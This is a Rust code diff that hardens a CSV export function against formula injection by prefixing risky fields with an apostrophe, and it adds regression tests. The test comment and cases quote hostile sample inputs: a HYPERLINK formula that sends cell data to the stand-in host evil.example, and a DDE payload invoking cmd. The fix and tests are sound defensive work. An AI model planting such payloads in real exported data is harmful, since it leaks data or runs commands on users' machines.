@@ -249,12 +249,20 @@ fn truncate_chars(text: &str, max: usize) -> String {
     }
 }
 
-/// RFC 4180 quoting: fields holding a comma, quote or line break are quoted, quotes doubled.
+/// One CSV field. A field that a spreadsheet would run as a formula (it starts with `=`, `+`,
+/// `-`, `@`, a tab or a carriage return) gets a leading `'`, as OWASP recommends against CSV
+/// injection: event fields come from whoever sent the event. Then RFC 4180 quoting: fields
+/// holding a comma, quote or line break are quoted, quotes doubled.
 pub fn csv_escape(field: &str) -> String {
+    let field = if field.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{field}")
+    } else {
+        field.to_owned()
+    };
     if field.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", field.replace('"', "\"\""))
     } else {
-        field.to_owned()
+        field
     }
 }
 
@@ -279,6 +287,29 @@ mod tests {
         assert_eq!(csv_escape("a,b"), "\"a,b\"");
         assert_eq!(csv_escape("say \"hi\""), "\"say \"\"hi\"\"\"");
         assert_eq!(csv_escape("two\nlines"), "\"two\nlines\"");
+    }
+
+    /// Regression: fields were written verbatim, so an event whose actor id was
+    /// `=HYPERLINK("http://evil.example/?"&A1,"open")` ran as a formula when the CSV was opened
+    /// in a spreadsheet. Such fields now start with `'`; RFC 4180 quoting still applies.
+    #[test]
+    fn csv_neutralises_formulas() {
+        assert_eq!(csv_escape("=1+1"), "'=1+1");
+        assert_eq!(csv_escape("+1"), "'+1");
+        assert_eq!(csv_escape("-1"), "'-1");
+        assert_eq!(csv_escape("@SUM(A1)"), "'@SUM(A1)");
+        assert_eq!(csv_escape("\tx"), "'\tx");
+        assert_eq!(csv_escape("\rx"), "\"'\rx\"");
+        assert_eq!(
+            csv_escape("=HYPERLINK(\"http://x/\",\"a\")"),
+            "\"'=HYPERLINK(\"\"http://x/\"\",\"\"a\"\")\""
+        );
+        assert_eq!(csv_escape("a=b"), "a=b");
+        let mut out = Vec::new();
+        let event = json!({"type": "a", "actor": {"id": "=cmd|' /C calc'!A0"}});
+        write_csv_rows(&mut out, &[event]).unwrap();
+        let row = String::from_utf8(out).unwrap();
+        assert!(row.contains(",'=cmd|' /C calc'!A0,"), "{row}");
     }
 
     #[test]
